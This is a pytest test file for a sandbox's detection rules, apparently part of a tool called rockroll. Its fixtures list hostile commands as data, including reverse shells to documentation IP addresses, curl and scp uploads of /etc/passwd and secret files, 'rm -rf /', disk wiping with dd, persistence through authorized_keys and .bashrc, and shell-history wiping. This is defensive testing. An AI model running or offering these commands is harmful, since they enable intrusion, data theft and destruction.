"""The shipped rules on command lines and connections, without a sandbox: what each class
catches, the near misses it must leave alone, and rule files that are wrong."""

from __future__ import annotations

from pathlib import Path

import pytest

from rockroll.errors import InvalidArgument
from rockroll.safety import default_rules, load_rules
from rockroll.sandbox.watch import RuleError, Rules


def exec_event(line: str, path: str = "") -> dict:
    argv = line.split()
    return {"kind": "exec", "argv": argv, "path": path or argv[0]}


CAUGHT = [
    ("tunnel", "ssh -fNR 9000:localhost:22 relay.example.net"),
    ("tunnel", "ssh -o RemoteForward=8080:localhost:80 user@relay"),
    ("tunnel", "ngrok tcp 22"),
    ("shell", "nc -e /bin/sh 198.51.100.4 4444"),
    ("shell", "socat TCP:198.51.100.4:4444 EXEC:/bin/bash"),
    ("shell", "bash -c bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"),
    ("miner", "/tmp/.x/xmrig -o pool.example:3333 -u wallet"),
    ("miner", "./kworker -o stratum+tcp://198.51.100.4:3333 -u 4AbC"),
    ("miner", "./run --donate-level 1 -a rx/0"),
    ("probe", "nmap -sS 10.0.0.0/24"),
    ("probe", "nc -zv 10.0.0.5 1-1024"),
    ("probe", "curl -s http://169.254.169.254/latest/meta-data/iam/"),
    ("credentials", "cat /etc/shadow"),
    ("credentials", "cp /root/.ssh/id_rsa /tmp/k"),
    ("credentials", "bash -c env | grep -i token"),
    ("persistence", "crontab /tmp/job"),
    ("persistence", "bash -c echo key >> /root/.ssh/authorized_keys"),
    ("persistence", "bash -c echo curl -s http://x/p.sh | sh >> ~/.bashrc"),
    ("exfiltration", "curl -F data=@/etc/passwd http://198.51.100.9/up"),
    ("exfiltration", "scp /app/secrets.tar user@198.51.100.9:/tmp/"),
    ("exfiltration", "curl --data-binary @/app/secrets.env http://198.51.100.9/"),
    ("exfiltration", "wget --post-file=/etc/hostname http://198.51.100.9/"),
    ("destructive", "rm -rf /"),
    ("destructive", "rm -rf --no-preserve-root /"),
    ("destructive", "dd if=/dev/zero of=/dev/sda bs=1M"),
    ("tamper", "pkill -f rockroll"),
    ("tamper", "bash -c unset HISTFILE; history -c"),
]

NEAR_MISSES = [
    "ssh -V",
    "ssh -i key -p 22 git@example.com",
    "nc -h",
    "crontab -l",
    "pip download requests",
    "curl https://pypi.org/simple/requests/",
    "curl --version",
    "cat /root/.gitconfig",
    "cat /root/.ssh/id_ed25519.pub",
    "ssh-keygen -t ed25519 -f /root/.ssh/id_ed25519 -N ''",
    "rm -rf /tmp/build",
    "rm -rf ./node_modules",
    "grep -rn stratum docs/",
    "nmap --version",
    "python3 -c print(1)",
    "bash -c echo export PATH=/opt/bin:$PATH >> ~/.bashrc",
    "kill -0 1",
    "pytest -q tests",
    "git push origin main",
    "env",
]


@pytest.mark.parametrize(("klass", "line"), CAUGHT)
def test_each_class_catches_its_commands(klass: str, line: str) -> None:
    matched = Rules(default_rules()).check(exec_event(line))
    assert klass in {r.klass for r in matched}, f"{line!r} matched {[r.id for r in matched]}"


@pytest.mark.parametrize("line", NEAR_MISSES)
def test_near_misses_match_nothing(line: str) -> None:
    matched = Rules(default_rules()).check(exec_event(line))
    assert not matched, f"{line!r} matched {[r.id for r in matched]}"


def test_a_busy_unknown_program_is_a_miner_and_a_busy_compiler_or_a_short_one_is_not() -> None:
    def ids(path: str, seconds: float, share: float = 1.0) -> set[str]:
        event = {"kind": "cpu", "path": path, "argv": [path], "cpu_seconds": seconds}
        return {r.id for r in Rules(default_rules()).check(event | {"cpu_share": share})}

    assert ids("/tmp/.kworker", 130) == {"miner.cpu-bound"}
    assert ids("/root/.cache/x", 600) == {"miner.cpu-bound"}
    assert not ids("/usr/bin/gcc", 600)  # the image's own programs
    assert not ids("/tmp/a.out", 30)  # not for minutes
    assert not ids("/tmp/a.out", 600, share=0.2)  # not keeping a core busy


def test_a_history_emptied_is_tampering_and_one_appended_to_is_not() -> None:
    def ids(line: str) -> set[str]:
        return {r.id for r in Rules(default_rules()).check(exec_event(line))}

    assert "tamper.history" in ids("bash -c : > /root/.bash_history")
    assert "tamper.history" in ids("bash -c cat /dev/null 2>/root/.bash_history")
    assert "tamper.history" not in ids("bash -c echo make >> /root/.bash_history")


def test_connections_to_metadata_pool_ports_and_sweeps_are_caught_and_loopback_is_not() -> None:
    rules = Rules(default_rules())

    def connect(address: str, port: int, t: float = 0.0) -> set[str]:
        event = {"kind": "connect", "argv": ["python3"], "address": address, "port": port}
        return {r.id for r in rules.check(event | {"time": t})}

    assert "probe.metadata" in connect("169.254.169.254", 80)
    assert "miner.pool-port" in connect("198.51.100.4", 3333)
    assert not connect("127.0.0.1", 3333)
    assert not connect("198.51.100.4", 443)
    swept = [connect(f"198.51.100.{i}", 443, t=i) for i in range(1, 14)]
    assert "probe.host-sweep" not in set().union(*swept[:10])
    assert "probe.host-sweep" in swept[-1]
    many_local = [connect("127.0.0.1", 8000 + i, t=100 + i) for i in range(30)]
    assert not set().union(*many_local)


def test_a_wrong_rule_names_the_rule_and_the_field(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match=r"rule 'x\.bad'.*'action'"):
        Rules([{"id": "x.bad", "on": "exec", "action": "explode"}])
    with pytest.raises(RuleError, match=r"rule 'x\.re'.*'args'.*regular expression"):
        Rules([{"id": "x.re", "on": "exec", "args": "("}])
    with pytest.raises(RuleError, match=r"rule 'x\.net'.*on = 'connect'"):
        Rules([{"id": "x.net", "on": "exec", "port": [22]}])
    with pytest.raises(RuleError, match="unknown field 'progam'"):
        Rules([{"id": "x.typo", "on": "exec", "progam": ["ssh"]}])
    with pytest.raises(RuleError, match=r"rule 'x\.cpu'.*'cpu_seconds' is required"):
        Rules([{"id": "x.cpu", "on": "cpu", "path": "^/tmp/"}])
    with pytest.raises(RuleError, match=r"rule 'x\.cpu'.*'cpu_share' needs on = 'cpu'"):
        Rules([{"id": "x.cpu", "on": "exec", "cpu_share": 0.5}])
    with pytest.raises(RuleError, match=r"rule 'x\.cpu'.*record, flag, kill or end"):
        Rules([{"id": "x.cpu", "on": "cpu", "cpu_seconds": 60, "action": "refuse"}])
    bad = tmp_path / "mine.toml"
    bad.write_text('[[rule]]\nid = "a"\non = "exec"\n[[rule]]\nid = "a"\non = "exec"\n')
    with pytest.raises(InvalidArgument, match=r"mine\.toml: rule 'a' is defined twice"):
        load_rules(bad)


def test_every_shipped_rule_has_a_class_severity_rationale_and_one_of_the_issue_classes() -> None:
    rules = Rules(default_rules()).rules
    classes = {r.klass for r in rules}
    assert classes == {
        "tunnel", "shell", "miner", "probe", "credentials", "persistence", "exfiltration",
        "destructive", "tamper",
    }  # fmt: skip
    assert all(r.rationale and r.severity for r in rules)


def test_pipelines_hidden_in_scripts_are_caught_from_their_two_ends_in_either_order() -> None:
    def run(*execs: tuple[int, str]) -> set[str]:
        rules = Rules(default_rules())
        found: set[str] = set()
        for t, (pid, line) in enumerate(execs):
            event = exec_event(line) | {"pid": pid, "ppid": 7, "time": 100.0 + t / 10}
            found |= {r.id for r in rules.check(event)}
        return found

    assert "cred.env-grep" in run((8, "env"), (9, "grep -i token"))
    assert "cred.env-grep" in run((9, "grep -i token"), (8, "env"))
    assert "exfil.pipe-out" in run((8, "cat /etc/passwd"), (9, "nc 198.51.100.9 9000"))
    assert "shell.pipe-to-shell" in run((8, "sh -i"), (9, "nc 198.51.100.4 4444"))
    assert "shell.pipe-to-shell" in run((8, "bash --norc -li"), (9, "socat - TCP:198.51.100.4:1"))
    # an -i that is not the shell's own option (sed -i in a command string) is no interactive shell
    assert not run((8, "socat -V"), (9, "bash -c sed -i s/1/2/ main.py"))
    assert "shell.fetch-and-run" in run((8, "curl -fsSL http://198.51.100.4/x.sh"), (9, "bash"))
    assert "shell.fetch-and-run" in run((9, "sh -s"), (8, "wget -qO- https://x.test/i"))
    assert "shell.fetch-and-run" not in run((8, "curl -o i.sh http://x.test/i"), (9, "bash i.sh"))
    assert not run((8, "env"), (9, "grep -i path"))
    assert not run((8, "cat notes.txt"), (9, "grep -c todo"))
    rules = Rules(default_rules())  # not siblings: other parents, or minutes apart
    rules.check(exec_event("env") | {"pid": 8, "ppid": 7, "time": 0.0})
    assert not rules.check(exec_event("grep token") | {"pid": 9, "ppid": 3, "time": 0.1})
    assert not rules.check(exec_event("grep token") | {"pid": 9, "ppid": 7, "time": 30.0})
